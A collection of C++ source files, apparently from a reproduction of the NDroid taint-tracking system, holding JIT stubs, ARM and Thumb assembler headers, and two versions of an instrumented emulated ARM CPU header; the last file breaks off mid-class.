bool Cpu::run_jit(u64 max_steps) { return run_threaded(max_steps); }

bool JitRun::compile(Cpu&, ThreadedBlock&) { return false; }
u64 JitRun::exec(Cpu&, ThreadedBlock&, const u8*, u64) { return 0; }
bool JitRun::ensure_engine(Cpu&) { return false; }
bool JitRun::arena_flush(Cpu&) { return false; }
const void* JitRun::resolve(void*, void*, u32, u32, u32, u32) {
  return nullptr;
}
const void* JitRun::co_edge(void*, void*, u32, u32, u32, u32) {
  return nullptr;
}
const void* JitRun::co_bx(void*, void*, const void*) { return nullptr; }
const void* JitRun::co_exec_term(void*, void*, const void*) {
  return nullptr;
}
const void* JitRun::co_svc_term(void*, void*, const void*) {
  return nullptr;
}
u64 JitRun::co_trace_step(void*, const void*, const void*, u32) { return 0; }
void JitRun::co_taint_sync(void*, u32) {}
u32 JitRun::co_shadow_read(void*, u32, u32) { return 0; }
void JitRun::co_shadow_write(void*, u32, u32, u32) {}

#endif  // NDROID_JIT_X64

}  // namespace ndroid::arm
