// Programmatic Thumb-16 assembler (plus the two-halfword BL).
//
// Used to author Thumb-mode native libraries; the paper's tracer handles
// both ARM and Thumb instruction streams (§V-C), so the test suite and the
// scenario apps exercise both.
#pragma once

#include <string>
#include <vector>

#include "arm/assembler.h"  // Reg

namespace ndroid::arm {

class ThumbLabel {
 public:
  ThumbLabel() = default;

 private:
  friend class ThumbAssembler;
  i32 bound_offset = -1;
  std::vector<std::pair<u32, bool>> fixups;  // (offset, is_cond)
};

class ThumbAssembler {
 public:
  explicit ThumbAssembler(GuestAddr base) : base_(base) {}

  [[nodiscard]] GuestAddr base() const { return base_; }
  [[nodiscard]] GuestAddr here() const {
    return base_ + static_cast<u32>(buf_.size());
  }
  /// Entry-point address with the Thumb bit set.
  [[nodiscard]] GuestAddr here_entry() const { return here() | 1u; }
  [[nodiscard]] std::vector<u8> finish() { return std::move(buf_); }

  void bind(ThumbLabel& label);

  // Low registers only (r0-r7) unless noted.
  void movs_imm(Reg rd, u8 imm);
  void adds_imm8(Reg rdn, u8 imm);
  void subs_imm8(Reg rdn, u8 imm);
  void adds_imm3(Reg rd, Reg rn, u8 imm);
  void subs_imm3(Reg rd, Reg rn, u8 imm);
  void adds(Reg rd, Reg rn, Reg rm);
  void subs(Reg rd, Reg rn, Reg rm);
  void lsls(Reg rd, Reg rm, u8 imm);
  void lsrs(Reg rd, Reg rm, u8 imm);
  void asrs(Reg rd, Reg rm, u8 imm);
  void cmp_imm(Reg rn, u8 imm);

  // ALU register forms (Rdn op= Rm).
  void ands(Reg rdn, Reg rm);
  void eors(Reg rdn, Reg rm);
  void orrs(Reg rdn, Reg rm);
  void bics(Reg rdn, Reg rm);
  void mvns(Reg rd, Reg rm);
  void muls(Reg rdn, Reg rm);
  void tst(Reg rn, Reg rm);
  void cmp(Reg rn, Reg rm);
  void negs(Reg rd, Reg rm);

  // Hi-register forms (any of r0-r15).
  void mov(Reg rd, Reg rm);
  void add(Reg rdn, Reg rm);
  void bx(Reg rm);
  void blx(Reg rm);

  void ldr(Reg rt, Reg rn, u8 offset);   // word, offset multiple of 4, <=124
  void str(Reg rt, Reg rn, u8 offset);
  void ldrb(Reg rt, Reg rn, u8 offset);  // offset <= 31
  void strb(Reg rt, Reg rn, u8 offset);
  void ldrh(Reg rt, Reg rn, u8 offset);  // offset multiple of 2, <= 62
  void strh(Reg rt, Reg rn, u8 offset);
  void ldr_reg(Reg rt, Reg rn, Reg rm);
  void str_reg(Reg rt, Reg rn, Reg rm);
  void ldrb_reg(Reg rt, Reg rn, Reg rm);
  void strb_reg(Reg rt, Reg rn, Reg rm);
  void ldr_pc(Reg rt, u8 word_offset);  // ldr rt, [pc, #off<<2]
  void ldr_sp(Reg rt, u16 offset);      // word, offset multiple of 4, <=1020
  void str_sp(Reg rt, u16 offset);

  void push(std::initializer_list<Reg> regs);  // may include LR
  void pop(std::initializer_list<Reg> regs);   // may include PC

  void add_sp(u16 imm);  // multiple of 4, <= 508
  void sub_sp(u16 imm);

  void sxtb(Reg rd, Reg rm);
  void sxth(Reg rd, Reg rm);
  void uxtb(Reg rd, Reg rm);
  void uxth(Reg rd, Reg rm);

  void b(ThumbLabel& label, Cond cond = Cond::kAL);
  void bl(ThumbLabel& label);
  void svc(u8 number);
  void nop();

  /// Thumb-2 table branches (32-bit encodings). With rn == PC the offset
  /// table sits inline directly after the instruction; emit it with
  /// byte()/hword() (entries are half the forward distance in bytes).
  void tbb(Reg rn, Reg rm);
  void tbh(Reg rn, Reg rm);

  /// Raw data emission for inline tables / literal pools.
  void byte(u8 v) { buf_.push_back(v); }
  void hword(u16 v) { emit(v); }
  /// Pads with 0x00 bytes until `here()` is a multiple of `alignment`.
  void align(u32 alignment);

  /// IT{x{y{z}}}: `suffixes` spells the optional then/else pattern for the
  /// following instructions ("" = IT, "T" = ITT, "TE" = ITTE, ...). The
  /// covered instructions use their normal (unconditional) encodings; use
  /// b(label) — not b(label, cond) — for a conditional branch inside.
  void it(Cond firstcond, const char* suffixes = "");

  /// Loads a 32-bit constant via movs/lsls/adds sequence (no literal pool).
  void load_imm32(Reg rd, u32 imm);

  /// Long call to an absolute address: load_imm32 + blx.
  void call(GuestAddr target, Reg scratch = R(7));

 private:
  void emit(u16 hw);

  GuestAddr base_;
  std::vector<u8> buf_;
};

}  // namespace ndroid::arm
