// Programmatic ARM (A32) assembler.
//
// Guest code in this reproduction — third-party "native libraries", the fake
// libdvm.so JNI stubs, and libc.so — is authored through this assembler, the
// way the paper's subject apps ship prebuilt .so files. Emits the same
// encodings `decode_arm` consumes; round-trip equivalence is tested.
#pragma once

#include <string>
#include <vector>

#include "arm/insn.h"

namespace ndroid::arm {

/// Register operand, thin wrapper to keep call sites readable: R(0)..R(15).
struct Reg {
  u8 index;
};
constexpr Reg R(u8 i) { return Reg{i}; }
[[maybe_unused]] inline constexpr Reg SP{13};
[[maybe_unused]] inline constexpr Reg LR{14};
[[maybe_unused]] inline constexpr Reg PC{15};
[[maybe_unused]] inline constexpr Reg IP{12};  // AAPCS scratch for long calls

class Label {
 public:
  Label() = default;

 private:
  friend class Assembler;
  i32 bound_offset = -1;
  std::vector<u32> fixups;  // offsets of B/BL words awaiting this label
};

class Assembler {
 public:
  explicit Assembler(GuestAddr base) : base_(base) {}

  [[nodiscard]] GuestAddr base() const { return base_; }
  [[nodiscard]] GuestAddr here() const {
    return base_ + static_cast<u32>(buf_.size());
  }
  [[nodiscard]] const std::vector<u8>& buffer() const { return buf_; }

  /// Finalises fixups; throws if any label is unbound.
  [[nodiscard]] std::vector<u8> finish();

  void bind(Label& label);

  // --- Data processing (register operand 2, optional shift) -----------
  void and_(Reg rd, Reg rn, Reg rm, bool s = false);
  void eor(Reg rd, Reg rn, Reg rm, bool s = false);
  void sub(Reg rd, Reg rn, Reg rm, bool s = false);
  void rsb(Reg rd, Reg rn, Reg rm, bool s = false);
  void add(Reg rd, Reg rn, Reg rm, bool s = false);
  void adc(Reg rd, Reg rn, Reg rm, bool s = false);
  void sbc(Reg rd, Reg rn, Reg rm, bool s = false);
  void orr(Reg rd, Reg rn, Reg rm, bool s = false);
  void bic(Reg rd, Reg rn, Reg rm, bool s = false);
  void mov(Reg rd, Reg rm);
  void mvn(Reg rd, Reg rm);
  void lsl(Reg rd, Reg rm, u8 amount);
  void lsr(Reg rd, Reg rm, u8 amount);
  void asr(Reg rd, Reg rm, u8 amount);
  void tst(Reg rn, Reg rm);
  void cmp(Reg rn, Reg rm);

  // --- Data processing (immediate operand 2) ---------------------------
  // The immediate must be encodable as an 8-bit value rotated right by an
  // even amount; mov_imm32 synthesises arbitrary 32-bit constants.
  void and_imm(Reg rd, Reg rn, u32 imm);
  void sub_imm(Reg rd, Reg rn, u32 imm, bool s = false);
  void add_imm(Reg rd, Reg rn, u32 imm, bool s = false);
  void orr_imm(Reg rd, Reg rn, u32 imm);
  void eor_imm(Reg rd, Reg rn, u32 imm);
  void mov_imm(Reg rd, u32 imm, Cond cond = Cond::kAL);
  void cmp_imm(Reg rn, u32 imm);

  void movw(Reg rd, u16 imm);
  void movt(Reg rd, u16 imm);
  /// movw/movt pair (or single mov when encodable).
  void mov_imm32(Reg rd, u32 imm);

  // --- Multiply / divide ------------------------------------------------
  void mul(Reg rd, Reg rn, Reg rm, bool s = false);
  void mla(Reg rd, Reg rn, Reg rm, Reg ra);
  void umull(Reg rdlo, Reg rdhi, Reg rn, Reg rm);
  void smull(Reg rdlo, Reg rdhi, Reg rn, Reg rm);
  void sdiv(Reg rd, Reg rn, Reg rm);
  void udiv(Reg rd, Reg rn, Reg rm);
  void clz(Reg rd, Reg rm);
  void sxtb(Reg rd, Reg rm);
  void sxth(Reg rd, Reg rm);
  void uxtb(Reg rd, Reg rm);
  void uxth(Reg rd, Reg rm);

  // --- Loads / stores ----------------------------------------------------
  void ldr(Reg rt, Reg rn, i32 offset = 0);
  void str(Reg rt, Reg rn, i32 offset = 0);
  void ldrb(Reg rt, Reg rn, i32 offset = 0);
  void strb(Reg rt, Reg rn, i32 offset = 0);
  void ldrh(Reg rt, Reg rn, i32 offset = 0);
  void strh(Reg rt, Reg rn, i32 offset = 0);
  void ldrsb(Reg rt, Reg rn, i32 offset = 0);
  void ldrsh(Reg rt, Reg rn, i32 offset = 0);
  void ldr_reg(Reg rt, Reg rn, Reg rm);  // ldr rt, [rn, rm]
  void str_reg(Reg rt, Reg rn, Reg rm);
  void ldrb_reg(Reg rt, Reg rn, Reg rm);
  void strb_reg(Reg rt, Reg rn, Reg rm);
  /// Pre-indexed with writeback: ldrb rt, [rn, #offset]!.
  void ldrb_pre(Reg rt, Reg rn, i32 offset);
  void strb_pre(Reg rt, Reg rn, i32 offset);
  /// Post-indexed: ldr rt, [rn], #offset.
  void ldr_post(Reg rt, Reg rn, i32 offset);
  void str_post(Reg rt, Reg rn, i32 offset);
  void ldrb_post(Reg rt, Reg rn, i32 offset);
  void strb_post(Reg rt, Reg rn, i32 offset);

  void push(std::initializer_list<Reg> regs);
  void pop(std::initializer_list<Reg> regs);
  void ldm_ia(Reg rn, u16 reglist, bool writeback);
  void stm_ia(Reg rn, u16 reglist, bool writeback);

  // --- Control flow -------------------------------------------------------
  void b(Label& label, Cond cond = Cond::kAL);
  void bl(Label& label);
  void b_abs(GuestAddr target, Cond cond = Cond::kAL);
  void bl_abs(GuestAddr target);
  void bx(Reg rm);
  void blx(Reg rm);
  /// Long call to an arbitrary absolute address: movw/movt ip + blx ip.
  void call(GuestAddr target);

  void svc(u32 number);
  void nop();
  /// Emits `bx lr`.
  void ret();

  // --- Data -------------------------------------------------------------
  void word(u32 value);
  /// Emits a NUL-terminated string, 4-byte aligned afterwards.
  GuestAddr cstring(std::string_view s);
  void align(u32 alignment);

  /// True if `imm` fits ARM's rotated-8-bit immediate encoding.
  static bool encodable_imm(u32 imm);

 private:
  void emit(u32 word);
  void dp(u8 opcode, Reg rd, Reg rn, Reg rm, bool s, ShiftType shift = ShiftType::kLSL,
          u8 amount = 0, Cond cond = Cond::kAL);
  void dp_imm(u8 opcode, Reg rd, Reg rn, u32 imm, bool s,
              Cond cond = Cond::kAL);
  void mem(bool load, bool byte, Reg rt, Reg rn, i32 offset, bool pre,
           bool writeback);
  void mem_h(Op op, Reg rt, Reg rn, i32 offset);
  static u32 encode_imm(u32 imm);  // throws if not encodable

  GuestAddr base_;
  std::vector<u8> buf_;
};

}  // namespace ndroid::arm
