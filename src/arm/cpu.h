// The emulated ARM core with instrumentation points.
//
// This is the substrate role QEMU plays for NDroid (paper §V-A, §V-G):
//  * an *instruction hook* fires before each decoded instruction executes —
//    NDroid's Instruction Tracer attaches here (the analogue of inserting
//    TCG ops at translation time);
//  * a *branch hook* fires on every non-sequential control transfer with
//    (I_from, I_to) — exactly the pair the multilevel-hooking conditions
//    T1..T6 are defined over (paper Fig. 5);
//  * *function hooks* fire when control reaches a registered guest address
//    (entry) and when the hooked call returns (exit) — how NDroid hooks
//    dvmCallJNIMethod, the JNI functions, and libc entry points;
//  * *helpers* are C++ implementations behind guest addresses: when the PC
//    lands on one, the helper runs and control returns to LR. Guest stubs in
//    our fake libdvm/libc call them, keeping call chains visible as guest
//    branches.
#pragma once

#include <functional>
#include <unordered_map>
#include <vector>

#include "arm/cpu_state.h"
#include "arm/decoder.h"
#include "arm/executor.h"
#include "mem/address_space.h"
#include "mem/memory_map.h"

namespace ndroid::arm {

class Cpu;

using InsnHook = std::function<void(Cpu&, const Insn&, GuestAddr pc)>;
using BranchHook = std::function<void(Cpu&, GuestAddr from, GuestAddr to)>;
using Helper = std::function<void(Cpu&)>;
using SvcHandler = std::function<void(Cpu&, u32 svc_number)>;

/// Address the run loop treats as "return to host": calling convention glue
/// sets LR to this before entering guest code.
inline constexpr GuestAddr kHostReturnAddr = 0xFFFF0000u;

class Cpu {
 public:
  explicit Cpu(mem::AddressSpace& memory, mem::MemoryMap& memmap)
      : memory_(memory), memmap_(memmap) {}

  Cpu(const Cpu&) = delete;
  Cpu& operator=(const Cpu&) = delete;

  CPUState& state() { return state_; }
  [[nodiscard]] const CPUState& state() const { return state_; }
  mem::AddressSpace& memory() { return memory_; }
  mem::MemoryMap& memmap() { return memmap_; }

  // --- Instrumentation ------------------------------------------------

  /// Returns an id usable with remove_insn_hook.
  int add_insn_hook(InsnHook hook);
  void remove_insn_hook(int id);

  int add_branch_hook(BranchHook hook);
  void remove_branch_hook(int id);

  /// Registers a C++ helper behind guest address `addr`. When the PC lands
  /// there the helper runs with AAPCS argument registers live, then control
  /// returns to LR (unless the helper redirected the PC itself).
  void register_helper(GuestAddr addr, Helper helper);

  /// Registers a helper at the next free address in the helper window
  /// (0xF0000000+) and returns that address.
  GuestAddr register_helper_auto(Helper helper);

  void set_svc_handler(SvcHandler handler) { svc_handler_ = std::move(handler); }

  // --- Execution -------------------------------------------------------

  /// Executes one instruction (or one helper). Throws GuestFault on
  /// undecodable instructions or a missing SVC handler.
  void step();

  /// Runs until the PC reaches kHostReturnAddr or `max_steps` instructions
  /// retire. Returns true if the host-return address was reached.
  bool run(u64 max_steps = 1'000'000'000);

  /// Calls a guest function: sets up R0-R3 (+ stack for extra args), runs to
  /// completion, restores SP, returns R0. `addr` bit 0 selects Thumb.
  u32 call_function(GuestAddr addr, const std::vector<u32>& args = {});

  /// Total instructions retired (helpers count as one).
  [[nodiscard]] u64 instructions_retired() const { return retired_; }

  /// Guest stack for host-initiated calls; must be set before call_function.
  void set_initial_sp(GuestAddr sp) { state_.set_sp(sp); }

  /// Step budget used by call_function (guards against runaway guest code).
  void set_step_budget(u64 steps) { step_budget_ = steps; }

 private:
  void fire_branch_hooks(GuestAddr from, GuestAddr to);

  mem::AddressSpace& memory_;
  mem::MemoryMap& memmap_;
  CPUState state_{};

  /// Decode cache (the analogue of QEMU's translation cache): decoding
  /// depends only on the instruction word(s) and mode, never the address,
  /// so a direct-mapped word-keyed cache is safe under self-modifying code.
  struct DecodeEntry {
    u64 key = ~0ull;
    Insn insn;
  };
  static constexpr u32 kDecodeCacheBits = 14;
  const Insn& decode_cached(u64 key, u32 word, u16 hw2);

  std::vector<DecodeEntry> decode_cache_ =
      std::vector<DecodeEntry>(1u << kDecodeCacheBits);

  std::vector<std::pair<int, InsnHook>> insn_hooks_;
  std::vector<std::pair<int, BranchHook>> branch_hooks_;
  std::unordered_map<GuestAddr, Helper> helpers_;
  GuestAddr next_helper_addr_ = 0xF0000000;
  SvcHandler svc_handler_;
  int next_hook_id_ = 1;
  u64 retired_ = 0;
  u64 step_budget_ = 1'000'000'000;
  int call_depth_ = 0;
};

}  // namespace ndroid::arm
