// The emulated ARM core with instrumentation points.
//
// This is the substrate role QEMU plays for NDroid (paper §V-A, §V-G):
//  * an *instruction hook* fires before each decoded instruction executes —
//    NDroid's Instruction Tracer attaches here (the analogue of inserting
//    TCG ops at translation time);
//  * a *branch hook* fires on every non-sequential control transfer with
//    (I_from, I_to) — exactly the pair the multilevel-hooking conditions
//    T1..T6 are defined over (paper Fig. 5);
//  * *function hooks* fire when control reaches a registered guest address
//    (entry) and when the hooked call returns (exit) — how NDroid hooks
//    dvmCallJNIMethod, the JNI functions, and libc entry points;
//  * *helpers* are C++ implementations behind guest addresses: when the PC
//    lands on one, the helper runs and control returns to LR. Guest stubs in
//    our fake libdvm/libc call them, keeping call chains visible as guest
//    branches.
//
// Execution has two engines:
//  * the interpretive path (`use_tb_cache=false`): fetch/decode/hook/execute
//    one instruction at a time — the paper-faithful baseline the ablation
//    benches measure;
//  * the translation-block path (default): straight-line instruction runs
//    are decoded once into a TranslationBlock (see arm/tb_cache.h) and
//    replayed with hooks resolved once per block. A client-installed block
//    gate may declare a whole block hook-free (NDroid's taint-liveness fast
//    path), in which case only the executor runs.
#pragma once

#include <functional>
#include <memory>
#include <unordered_map>
#include <vector>

#include "arm/cpu_state.h"
#include "arm/decoder.h"
#include "arm/executor.h"
#include "arm/tb_cache.h"
#include "arm/threaded.h"
#include "mem/address_space.h"
#include "mem/memory_map.h"

namespace ndroid::arm {

class Cpu;
struct JitEngine;  // arm/jit.h — host-code-emission backend state

using InsnHook = std::function<void(Cpu&, const Insn&, GuestAddr pc)>;
using BranchHook = std::function<void(Cpu&, GuestAddr from, GuestAddr to)>;
using Helper = std::function<void(Cpu&)>;
using SvcHandler = std::function<void(Cpu&, u32 svc_number)>;

/// Consulted once per block execution when every instruction hook is gated:
/// returning false skips all instruction hooks for that block run (the
/// taint-liveness fast path). May memoise into `tb.scope_cache`.
using BlockGate = std::function<bool(Cpu&, TranslationBlock& tb)>;

/// Consulted on taken branches when every branch hook is gated: returning
/// false promises that every gated branch hook would no-op on this edge, so
/// the executor may skip firing them (and may chain a quiet self-loop
/// without leaving the block executor).
using BranchGate = std::function<bool(Cpu&, GuestAddr from, GuestAddr to)>;

/// Everything the taint-fused JIT streams need from the analysis layer,
/// flattened to raw pointers so emitted host code can bake them in as
/// immediates. The arm layer stays ignorant of the taint engine: the client
/// (core::NDroid) fills this in and owns every pointed-to object for as long
/// as the view is installed. With a view installed (reg_labels != nullptr),
/// gate-skipped blocks run their *clean* host stream and gate-fired blocks
/// run a *traced* host stream that propagates Table V taint inline — instead
/// of falling back to the threaded tier wholesale.
struct TaintJitView {
  /// The 16-slot register label file (TaintEngine shadow registers). Traced
  /// streams read and write it raw; `sync` reconciles the engine's
  /// incremental bookkeeping (counts, masks, epochs) afterwards.
  u32* reg_labels = nullptr;
  /// Called at every traced-block exit and before every out-of-line trace
  /// callout with a bitmask of registers whose labels emitted code may have
  /// written since the last sync.
  void (*sync)(void* ctx, u32 written_mask) = nullptr;
  void* sync_ctx = nullptr;
  /// ShadowMemory's JIT shadow TLB: direct-mapped, 16-byte entries, page
  /// number at +0 and label-array pointer at +8 (the data-TLB probe shape).
  const void* shadow_tlb = nullptr;
  u32 shadow_tlb_slots = 0;
  /// Slow paths for taint loads/stores that miss the shadow TLB or straddle
  /// a page: fill the TLB and do the bookkeeping-complete range op.
  u32 (*shadow_read)(void* ctx, u32 addr, u32 len) = nullptr;
  void (*shadow_write)(void* ctx, u32 addr, u32 len, u32 taint) = nullptr;
  void* mem_ctx = nullptr;
  /// Tracer statistics slots; constant increments are folded into traced
  /// exits so the counts stay exactly what the interpreted tracer would
  /// report. cache_ctr == nullptr means the handler cache is disabled.
  u64* traced_ctr = nullptr;
  u64* cache_ctr = nullptr;
  u64* prop_ctr = nullptr;
};

/// Address the run loop treats as "return to host": calling convention glue
/// sets LR to this before entering guest code.
inline constexpr GuestAddr kHostReturnAddr = 0xFFFF0000u;

/// Helpers live at and above this address; the run loop checks the window
/// before block lookup, and translation never crosses into it.
inline constexpr GuestAddr kHelperWindowBase = 0xF0000000u;

class Cpu {
 public:
  explicit Cpu(mem::AddressSpace& memory, mem::MemoryMap& memmap);
  ~Cpu();

  Cpu(const Cpu&) = delete;
  Cpu& operator=(const Cpu&) = delete;

  CPUState& state() { return state_; }
  [[nodiscard]] const CPUState& state() const { return state_; }
  mem::AddressSpace& memory() { return memory_; }
  mem::MemoryMap& memmap() { return memmap_; }

  // --- Instrumentation ------------------------------------------------

  /// Returns an id usable with remove_insn_hook. A `gated` hook consents to
  /// being skipped for whole blocks when the block gate returns false;
  /// ungated hooks force every block to fire hooks per instruction.
  int add_insn_hook(InsnHook hook, bool gated = false);
  void remove_insn_hook(int id);

  /// A `gated` branch hook consents to being skipped for edges the branch
  /// gate declares uninteresting; ungated hooks fire on every taken branch.
  int add_branch_hook(BranchHook hook, bool gated = false);
  void remove_branch_hook(int id);

  /// Installs the block gate (see BlockGate). Flushes cached blocks so
  /// per-block memos (`scope_cache`, gate memos) cannot leak across clients.
  /// Pass nullptr to clear.
  ///
  /// `epoch` (optional) enables per-block memoisation of the gate's answer:
  /// the client owns a counter it bumps whenever any gate input changes
  /// (e.g. taint liveness crossing zero), and the executor re-calls the gate
  /// for a block only when the counter moved since the block's last answer.
  void set_block_gate(BlockGate gate, const u64* epoch = nullptr);

  /// Installs the branch gate (see BranchGate), with the same optional
  /// epoch-counter memoisation (the client bumps its counter whenever branch
  /// hook interest may have changed). Flushes cached blocks so stale branch
  /// memos cannot leak across clients.
  void set_branch_gate(BranchGate gate, const u64* epoch = nullptr);

  /// Registers a C++ helper behind guest address `addr`. When the PC lands
  /// there the helper runs with AAPCS argument registers live, then control
  /// returns to LR (unless the helper redirected the PC itself).
  void register_helper(GuestAddr addr, Helper helper);

  /// Registers a helper at the next free address in the helper window
  /// (0xF0000000+) and returns that address.
  GuestAddr register_helper_auto(Helper helper);

  void set_svc_handler(SvcHandler handler) { svc_handler_ = std::move(handler); }

  // --- Execution -------------------------------------------------------

  /// Executes one instruction (or one helper). Throws GuestFault on
  /// undecodable instructions or a missing SVC handler.
  void step();

  /// Runs until the PC reaches kHostReturnAddr or `max_steps` instructions
  /// retire. Returns true if the host-return address was reached.
  bool run(u64 max_steps = 1'000'000'000);

  /// Calls a guest function: sets up R0-R3 (+ stack for extra args), runs to
  /// completion, restores SP, returns R0. `addr` bit 0 selects Thumb.
  u32 call_function(GuestAddr addr, const std::vector<u32>& args = {});

  /// Total instructions retired (helpers count as one).
  [[nodiscard]] u64 instructions_retired() const { return retired_; }

  /// Guest stack for host-initiated calls; must be set before call_function.
  void set_initial_sp(GuestAddr sp) { state_.set_sp(sp); }

  /// Step budget used by call_function (guards against runaway guest code).
  void set_step_budget(u64 steps) { step_budget_ = steps; }

  // --- Translation-block cache -----------------------------------------

  /// Selects the execution engine. `false` restores the paper-faithful
  /// interpretive path (ablation mode); toggling flushes cached blocks.
  void set_use_tb_cache(bool on);
  [[nodiscard]] bool use_tb_cache() const { return use_tb_cache_; }

  /// Drops every cached block (explicit invalidation, e.g. after rewriting
  /// code wholesale). Writes into cached code pages invalidate
  /// automatically via the address-space write watch.
  void flush_blocks();

  [[nodiscard]] const TbCache& tb_cache() const { return tb_cache_; }

  // --- Threaded-code tier ----------------------------------------------

  /// Selects between the threaded micro-op tier (default) and the PR-5
  /// fused-handler block replay (`false`, the TB+TLB ablation point).
  /// Only meaningful while the TB cache is enabled; toggling flushes
  /// cached blocks so stale streams and links cannot leak across modes.
  void set_threaded_enabled(bool on);
  [[nodiscard]] bool threaded_enabled() const { return threaded_enabled_; }

  /// Installs the per-instruction trace emitter the threaded tier uses to
  /// build fused analysis streams (see TraceEmitter in threaded.h). Pass
  /// nullptr to clear. Flushes cached blocks: existing streams may embed
  /// thunks from a previous emitter.
  void set_trace_emitter(TraceEmitter emitter);

  /// Direct block-link statistics: links = transitions that stayed inside
  /// the threaded inner loop, patches = exit slots (re)patched.
  [[nodiscard]] u64 threaded_links() const { return threaded_links_; }
  [[nodiscard]] u64 threaded_patches() const { return threaded_patches_; }

  /// Blocks executed with instruction hooks skipped by the block gate, and
  /// the instructions those blocks retired.
  [[nodiscard]] u64 fastpath_blocks() const { return fastpath_blocks_; }
  [[nodiscard]] u64 fastpath_insns() const { return fastpath_insns_; }

  // --- Template JIT tier ------------------------------------------------

  /// Selects the host-code-emission tier layered over the threaded streams:
  /// blocks additionally compile to x86-64 machine code and clean execution
  /// (no live instruction hooks) dispatches into it; analysis-live blocks
  /// keep riding the threaded/traced streams unchanged. Requires the TB
  /// cache and the threaded tier; toggling flushes cached blocks so stale
  /// host code cannot leak across modes. Off by default (`--engine jit`
  /// opts in). A no-op when jit_available() is false — the threaded tier
  /// (with superword fusion) stays in charge.
  void set_jit_enabled(bool on);
  [[nodiscard]] bool jit_enabled() const { return jit_enabled_; }

  /// True when this build can emit host code (x86-64, not NDROID_NO_JIT).
  [[nodiscard]] static bool jit_available();

  /// Test hook: code-arena capacity and write-protection discipline. `wx`
  /// selects strict W^X (arena RW only while compiling, RX while
  /// executable) over the default single RWX mapping. Call while no guest
  /// frame is live; drops the current arena and flushes cached blocks.
  void set_jit_config(std::size_t arena_bytes, bool wx);

  /// Jit statistics: links/patches mirror the threaded counters; blocks /
  /// bytes / arena_flushes describe the code-arena lifecycle.
  [[nodiscard]] u64 jit_links() const { return jit_links_; }
  [[nodiscard]] u64 jit_link_patches() const { return jit_link_patches_; }
  [[nodiscard]] u64 jit_blocks_compiled() const {
    return jit_blocks_compiled_;
  }
  [[nodiscard]] u64 jit_bytes_emitted() const { return jit_bytes_emitted_; }
  [[nodiscard]] u64 jit_arena_flushes() const { return jit_arena_flushes_; }

  /// Installs (or clears, with nullptr) the taint view the jit tier compiles
  /// traced host streams against. Flushes cached blocks: emitted streams
  /// bake the view's pointers in as immediates.
  void set_taint_jit_view(const TaintJitView* view) {
    taint_jit_view_ = view != nullptr ? *view : TaintJitView{};
    flush_blocks();
  }
  [[nodiscard]] bool has_taint_jit_view() const {
    return taint_jit_view_.reg_labels != nullptr;
  }

  /// Traced-tier dispatch statistics: blocks entered through a traced host
  /// stream vs. blocks that fell back to the threaded/traced micro-op
  /// streams while instruction hooks were live (no view installed, traced
  /// emission bailed, or the hook configuration is not the fusable shape).
  [[nodiscard]] u64 jit_traced_blocks() const { return jit_traced_blocks_; }
  [[nodiscard]] u64 jit_fallback_blocks() const {
    return jit_fallback_blocks_;
  }

  /// Decode-cache statistics (shared by both execution engines).
  [[nodiscard]] u64 decode_lookups() const { return decode_lookups_; }
  [[nodiscard]] u64 decode_hits() const { return decode_hits_; }

 private:
  /// The threaded inner loop lives outside the class (arm/threaded.cc) but
  /// is part of the execution engine: it shares the hook/gate/front-cache
  /// state and the fast-path counters.
  friend struct ThreadedRun;
  /// Likewise for the jit tier (arm/jit.cc).
  friend struct JitRun;

  void fire_branch_hooks(GuestAddr from, GuestAddr to);
  bool run_interpretive(u64 max_steps);
  bool run_tb(u64 max_steps);
  /// run_tb's twin for the threaded tier: dispatches into micro-op streams
  /// (emitting them on first execution) instead of exec_block.
  bool run_threaded(u64 max_steps);
  /// run_threaded's twin for the jit tier (defined in arm/jit.cc):
  /// dispatches into compiled host code, falling back to the threaded
  /// streams per block while instruction hooks are live or the arena is
  /// exhausted.
  bool run_jit(u64 max_steps);
  /// Runs a helper if one is registered at `pc`; returns false otherwise.
  bool run_helper(GuestAddr pc);
  std::shared_ptr<TranslationBlock> translate(GuestAddr pc, bool thumb);
  /// Replays `tb` (and, after quiet taken branches, chains straight into
  /// cached successor blocks) until the budget runs out or control leaves
  /// the chainable fast path. Returns instructions retired.
  u64 exec_block(TranslationBlock& tb, u64 budget);
  /// True when firing the branch hooks for this edge would provably no-op
  /// (all hooks gated, gate says uninteresting); memoises per block.
  bool is_branch_quiet(TranslationBlock& tb, GuestAddr from, GuestAddr to);

  struct HookEntry {
    int id;
    bool gated;
    InsnHook fn;
  };
  struct BranchHookEntry {
    int id;
    bool gated;
    BranchHook fn;
  };

  mem::AddressSpace& memory_;
  mem::MemoryMap& memmap_;
  CPUState state_{};

  /// Decode cache (keyed by instruction word + mode, never the address:
  /// decoding is address-independent, so the cache is safe under
  /// self-modifying code). 16-bit Thumb encodings key on their own halfword
  /// alone; only 32-bit Thumb-2 encodings include the second halfword.
  struct DecodeEntry {
    u64 key = ~0ull;
    Insn insn;
  };
  static constexpr u32 kDecodeCacheBits = 14;
  const Insn& decode_cached(u64 key, u32 word, u16 hw2);
  /// Fetches and decodes the instruction at `pc` in the current mode.
  const Insn& fetch_decode(GuestAddr pc, bool thumb);

  std::vector<DecodeEntry> decode_cache_ =
      std::vector<DecodeEntry>(1u << kDecodeCacheBits);

  std::vector<HookEntry> insn_hooks_;
  int gated_hooks_ = 0;
  std::vector<BranchHookEntry> branch_hooks_;
  int gated_branch_hooks_ = 0;
  BlockGate block_gate_;
  const u64* block_gate_epoch_ = nullptr;
  BranchGate branch_gate_;
  const u64* branch_gate_epoch_ = nullptr;
  std::unordered_map<GuestAddr, Helper> helpers_;
  /// True once any helper shadows an address below the helper window; until
  /// then ordinary guest PCs skip the helper hash lookup entirely.
  bool has_low_helpers_ = false;
  GuestAddr next_helper_addr_ = kHelperWindowBase;
  SvcHandler svc_handler_;
  int next_hook_id_ = 1;
  u64 retired_ = 0;
  u64 step_budget_ = 1'000'000'000;
  int call_depth_ = 0;

  bool use_tb_cache_ = true;
  bool threaded_enabled_ = true;
  TraceEmitter trace_emitter_;
  u64 threaded_links_ = 0;
  u64 threaded_patches_ = 0;
  bool jit_enabled_ = false;
  std::size_t jit_arena_bytes_ = 4u << 20;
  bool jit_wx_ = false;
  u64 jit_links_ = 0;
  u64 jit_link_patches_ = 0;
  u64 jit_blocks_compiled_ = 0;
  u64 jit_bytes_emitted_ = 0;
  u64 jit_arena_flushes_ = 0;
  TaintJitView taint_jit_view_{};
  u64 jit_traced_blocks_ = 0;
  u64 jit_fallback_blocks_ = 0;
  /// Lazily created on the first jit dispatch; owns the code arena. Lives
  /// behind a pointer so non-jit configurations pay nothing.
